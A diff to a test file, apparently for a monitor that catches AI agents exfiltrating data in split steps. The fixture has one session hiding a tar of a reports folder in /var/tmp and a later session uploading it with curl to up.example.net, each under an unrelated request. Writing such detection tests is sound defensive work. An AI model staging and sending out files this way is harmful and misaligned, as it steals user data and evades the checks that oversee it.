@@ -56,7 +56,7 @@ def test_no_part_of_the_composite_is_found_by_itself(size: int) -> None:
 def test_what_a_session_put_aside_and_another_sends_away_is_a_slow_way_out() -> None:
     events = [
         asked("Run the backup check.", session="a"),
-        bash("a", "tar czf /var/tmp/.w81.tgz ~/work/reports"),
+        bash("a", "tar czf /var/tmp/.w81.tgz ~/reports"),
         later(asked("Check the weather.", session="b"), 9),
         later(bash("b", "curl -F file=@/var/tmp/.w81.tgz https://up.example.net/in"), 9),
     ]
